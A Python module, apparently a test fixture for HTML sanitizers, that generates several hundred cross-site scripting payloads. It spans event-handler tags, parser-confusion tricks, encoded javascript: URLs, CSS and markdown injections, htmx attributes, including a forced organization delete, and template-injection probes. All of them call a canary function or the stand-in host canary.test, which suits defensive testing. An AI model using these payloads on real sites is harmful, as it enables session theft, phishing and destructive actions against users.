"""Texts that want to be markup: each would call `canary(n)`, open a dialog or fetch from canary.test where it were one.

Families by the way they try to get in; every one is written once for each of its variants. PAYLOADS is the list.
"""

import base64
import re

HOST = "canary.test"
JS = "canary(%d)"

TAGS = (
    "img svg body input video audio details marquee iframe object embed select textarea button form style link math a "
    "table keygen isindex xss div"
)
HANDLERS = (
    "onerror onload onclick onmouseover onfocus onblur onanimationstart ontransitionend ontoggle onpointerenter onbegin "
    "onstart onfinish onwheel oninput onbeforetoggle onscrollend onhashchange onpageshow onmessage onresize"
)


def _texts(joined):
    """Patterns that stand on lines, or on one line with two spaces between them; ⏎ is a line feed in a pattern."""
    return [text.replace("⏎", "\n") for text in re.split(r" {2,}|\n", joined.strip())]


SELF_STARTING = _texts("""
<img src=x onerror={js}>  <img src=x onerror={js}//  <img/src=x/onerror={js}>  <img src=x\tonerror={js}>
<img src=x⏎onerror={js}>  <img src=x\x0conerror={js}>  <img src=x onerror⏎=⏎{js}>  <IMG SRC=x ONERROR={js}>
<iMg sRc=x oNeRrOr={js}>  <img src='x' onerror='{js}'>  <img src="x" onerror="{js}">  <img src=`x` onerror=`{js}`>
"><img src=x onerror={js}>  '><img src=x onerror={js}>  --><img src=x onerror={js}>  ]]><img src=x onerror={js}>
</title><img src=x onerror={js}>  </textarea><img src=x onerror={js}>  </script><script>{js}</script>
</style><img src=x onerror={js}>  </noscript><img src=x onerror={js}>  </template><img src=x onerror={js}>
</select><img src=x onerror={js}>  </code></pre><img src=x onerror={js}>  </ins><img src=x onerror={js}>
</mark></p></div></main><img src=x onerror={js}>  <svg onload={js}>  <svg/onload={js}>  <svg><script>{js}</script></svg>
<svg><script href=data:,{js} />  <svg><animate onbegin={js} attributeName=x dur=1s>
<svg><set onbegin={js} attributename=x>  <svg><style><img src=x onerror={js}></style></svg>
<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>
<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={js} /></svg>#x'>
<svg><image href={url}>
<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={js}&gt;'>
<math><mi//xlink:href='data:x,<script>{js}</script>'>
<math><annotation-xml encoding='text/html'><img src=x onerror={js}></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>
<noscript><p title='</noscript><img src=x onerror={js}>'>  <svg></p><style><a id='</style><img src=1 onerror={js}>'>
<xmp><p title='</xmp><img src=x onerror={js}>'></xmp>  <listing>&lt;img onerror='{js}' src&gt;</listing>
<table><td background={url}><img src=x onerror={js}>  <body onload={js}>  <body background={url}>
<details open ontoggle={js}>  <video autoplay onloadstart={js}><source></video>  <video><source onerror={js}></video>
<audio src=x onerror={js}>  <input autofocus onfocus={js}>  <select autofocus onfocus={js}>
<textarea autofocus onfocus={js}>  <button popovertarget=x onclick={js}>x</button><div popover id=x onbeforetoggle={js}>
<marquee onstart={js}>  <object data='javascript:{js}'>  <embed src='javascript:{js}'>
<iframe src='javascript:parent.{js}'></iframe>  <iframe srcdoc='<script>parent.{js}</script>'></iframe>
<iframe srcdoc='&lt;img src=x onerror=parent.{js}&gt;'></iframe>  <iframe onload={js}></iframe>  <script>{js}</script>
<script src=data:,{js}></script>  <script type=module>{js}</script>  <script>//\u2028{js}</script>
<scr<script>ipt>{js}</scr</script>ipt>  <<script>{js}//<</script>  <script type='text/javascript'>{js};</script>
<script/{js}></script>  <\x00script>{js}</script>  <scri\x00pt>{js}</scri\x00pt>  <img src=x on\x00error={js}>
<im\u200bg src=x onerror={js}>  \ufeff<script>{js}</script>  \u202e<script>{js}</script>\u202c
\ue000<script>\ue001{js}\ue000</script>\ue001  \uff1cscript\uff1e{js}\uff1c/script\uff1e
\u3008img src=x onerror={js}\u3009  \ufe64img src=x onerror={js}\ufe65  %3Cscript%3E{js}%3C/script%3E
&lt;script&gt;{js}&lt;/script&gt;  &amp;lt;img src=x onerror={js}&amp;gt;  &#60;img src=x onerror={js}&#62;
&#x3c;img src=x onerror={js}&#x3e;  \\x3cimg src=x onerror={js}\\x3e  \\u003cimg src=x onerror={js}\\u003e
+ADw-script+AD4-{js}+ADw-/script+AD4-  <![CDATA[<img src=x onerror={js}>]]>
<!--<img src='--><img src=x onerror={js}//'>-->  <!--[if gte IE 4]><script>{js}</script><![endif]-->
<?xml-stylesheet href='javascript:{js}'?>  <!DOCTYPE x [<!ENTITY y '<img src=x onerror={js}>'>]>&y;
<template shadowrootmode=open><img src=x onerror={js}></template>  <link rel=stylesheet href={url}>
<link rel=preload as=image href={url}>  <link rel=dns-prefetch href=//{host}>  <link rel=import href={url}>
<base href={url}/>  <meta http-equiv=refresh content='0;url=javascript:{js}'>
<meta http-equiv=refresh content='0;url={url}'>  <meta http-equiv=Content-Security-Policy content='script-src *'>
<form action={url}><button>Sign in</button></form>
<form id=x></form><button form=x formaction='javascript:{js}'>x</button>  <isindex type=image src=1 onerror={js}>
<img srcset='{url} 1x, {url}?2 2x'>  <picture><source srcset={url}><img src={url}></picture>
<img src={url} loading=eager>  <img src=//{host}/{n}>  <video poster={url}>  <video src={url} autoplay>
<audio src={url} autoplay>  <track src={url}>  <input type=image src={url}>  <iframe src={url}></iframe>
<object data={url}></object>  <embed src={url}>  <frameset><frame src={url}></frameset>  <portal src={url}>
<a href={url} ping={url}>x</a>
""")
STYLES = _texts("""
<style>body{{background:url({url})}}</style>  <style>@import '{url}';</style>
<style>@font-face{{font-family:x;src:url({url})}}*{{font-family:x}}</style>
<style>*{{animation-name:x}}@keyframes x{{}}</style><div onanimationstart={js}>
<div style='background:url({url})'>x</div>  <div style='width:expression({js})'>x</div>
<div style='behavior:url({url})'>x</div>  <p style=list-style:url({url})>x</p>  <b style='cursor:url({url}),auto'>x</b>
<i style='content:url({url})'>x</i>
""")
URLS = _texts("""
javascript:{js}  JaVaScRiPt:{js}  \x01javascript:{js}  java\tscript:{js}  java⏎script:{js}  javascript&colon;{js}
javascript&#58;{js}  &#106;avascript:{js}  &#x6A;avascript:{js}  &#0000106avascript:{js}  jav&#x09;ascript:{js}
jav&Tab;ascript:{js}  javascript://%0a{js}  javascript:%63anary({n})  javascript:\\u0063anary({n})  vbscript:{js}
data:text/html,<script>{js}</script>  data:text/html;base64,{b64}  data:image/svg+xml,<svg onload={js}>  blob:{url}
//{host}/{n}  {url}  \\\\{host}\\{n}
""") + [" javascript:{js}"]
LINKS = _texts("""
<a href='{to}'>open</a>  [open]({to})  ![picture]({to})  <{to}>  [a][{n}]⏎⏎[{n}]: {to}
<svg><a xlink:href='{to}'><text y=20>open</text></a></svg>  [![picture]({to})]({to})
""")
HTMX = _texts("""
hx-get='{url}' hx-trigger=load  hx-post='{url}' hx-trigger=load
hx-get='/account/' hx-trigger='load' hx-on::after-request='{js}'  hx-on:htmx:load='{js}'  hx-on--load='{js}'
hx-on='htmx:load: {js}'  hx-on:click='{js}' autofocus  hx-vals='js:{{x: {js}}}' hx-get='/' hx-trigger=load
hx-vars='x:{js}' hx-get='/' hx-trigger=load  hx-headers='js:{{x: {js}}}' hx-get='/' hx-trigger=load
hx-trigger='load[{js}]' hx-get='/'  hx-trigger='every 1s [{js}]' hx-get='/'  hx-ext='x' hx-boost=true
hx-swap-oob='beforeend:body'  hx-delete='/organization/delete/' hx-trigger=load
data-hx-get='{url}' data-hx-trigger=load  data-hx-on:htmx:load='{js}'  data-hx-on--load='{js}'
sse-connect='{url}' hx-ext=sse  ws-connect='{url}' hx-ext=ws  data-figure='{url}' class=chart
data-url='{url}' id=period data-period=9  _='on load {js}'  x-data x-init='{js}'  v-html='{js}'  ng-init='{js}' ng-app
""")
TEMPLATES = _texts("""
{{{{ {js} }}}}  {{{{constructor.constructor('{js}')()}}}}  {{{{ settings.SECRET_KEY }}}}
{{% load static %}}<script>{js}</script>  {{% include 'x' %}}{{{{ x|safe }}}}<img src=x onerror={js}>  {{% debug %}}
${{{js}}}  #{{{js}}}  <%= {js} %>  `${{{js}}}`  ';{js};//  ";{js};//  \\';{js};//  '-{js}-'  "-{js}-"  }};{js};{{
*/{js}/*  __proto__[onload]={js}  constructor[prototype][innerHTML]=<img src=x onerror={js}>
token:panel'><img src=x onerror={js}>
""")
MARKDOWN = _texts("""
[x](<javascript:{js}>)  [x](javascript:{js} 'title" onmouseover="{js}')  [x](http://a"onerror="{js})
![x](x"onerror="{js})  ![x]({url} "t" =10x10)  [x]: javascript:{js}⏎[x]  <http://a/"onmouseover="{js}>
<javascript:{js}>  `<img src=x onerror={js}>`  ``` html⏎<img src=x onerror={js}>⏎```  ```<img src=x onerror={js}>⏎x⏎```
~~~ "onmouseover="{js}⏎x⏎~~~  > <img src=x onerror={js}>  - <img src=x onerror={js}>  # <img src=x onerror={js}>
| <img src=x onerror={js}> |⏎|-|⏎| <svg onload={js}> |  ***<img src=x onerror={js}>***  ~~<img src=x onerror={js}>~~
<img src=x⏎⏎onerror={js}>  <div>⏎⏎<img src=x onerror={js}>⏎⏎</div>  \\<img src=x onerror={js}\\>
[x](&#106;avascript:{js})  {url}  www.{host}/{n}  ![x][y]⏎⏎[y]: {url}  [^1]⏎⏎[^1]: <img src=x onerror={js}>
$$\\href{{javascript:{js}}}{{x}}$$  <a name="x" href="javascript:{js}">x</a>
<ins><del><img src=x onerror={js}></del></ins>
""") + ["    <script>{js}</script>"]
CHARTS = _texts("""
<a href='javascript:{js}'>label</a>  <a href="{url}" target="_blank">label</a>  <b>bold</b><i onmouseover={js}>i</i>
<span style='background:url({url})'>label</span>  <sup><sub><br><em style="color:red;{js}">x</em>
$\\href{{javascript:{js}}}{{x}}$  %{{customdata}}<extra><img src=x onerror={js}></extra>  <b style='{{js}}'>label</b>
""")


def _made():
    yield from SELF_STARTING + STYLES + TEMPLATES + MARKDOWN + CHARTS
    for tag in TAGS.split():
        for handler in HANDLERS.split()[:7]:
            yield f"<{tag} src=x {handler}={{js}} autofocus tabindex=1>x</{tag}>"
    for handler in HANDLERS.split():
        yield f"<xss id=x {handler}='{{js}}' style='display:block' tabindex=1 contenteditable>x</xss>"
        yield f'x" {handler}="{{js}}" autofocus x="'
        yield f"x' {handler}='{{js}}' autofocus x='"
    for link in LINKS:
        for to in URLS:
            yield link.replace("{to}", to)
    for attribute in HTMX:
        yield f"<div {attribute}>x</div>"
        yield f'" {attribute} x="'


def _payload(number, pattern):
    js = JS % number
    encoded = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    return pattern.format(js=js, n=number, url=f"http://{HOST}/{number}", host=HOST, b64=encoded)


PAYLOADS = [_payload(number, pattern) for number, pattern in enumerate(dict.fromkeys(_made()))]


def packed(longest, most):
    """Texts up to a length, at most so many, that hold as many of the payloads as fit, from all families."""
    fitting = [payload.replace("\x00", "") for payload in PAYLOADS if len(payload) <= longest]
    step = max(1, sum(map(len, fitting)) // (most * longest))
    texts = [""]
    for payload in (payload for start in range(step) for payload in fitting[start::step]):
        if len(texts[-1]) + len(payload) > longest:
            if len(texts) == most:
                break
            texts.append("")
        texts[-1] += payload
    return texts
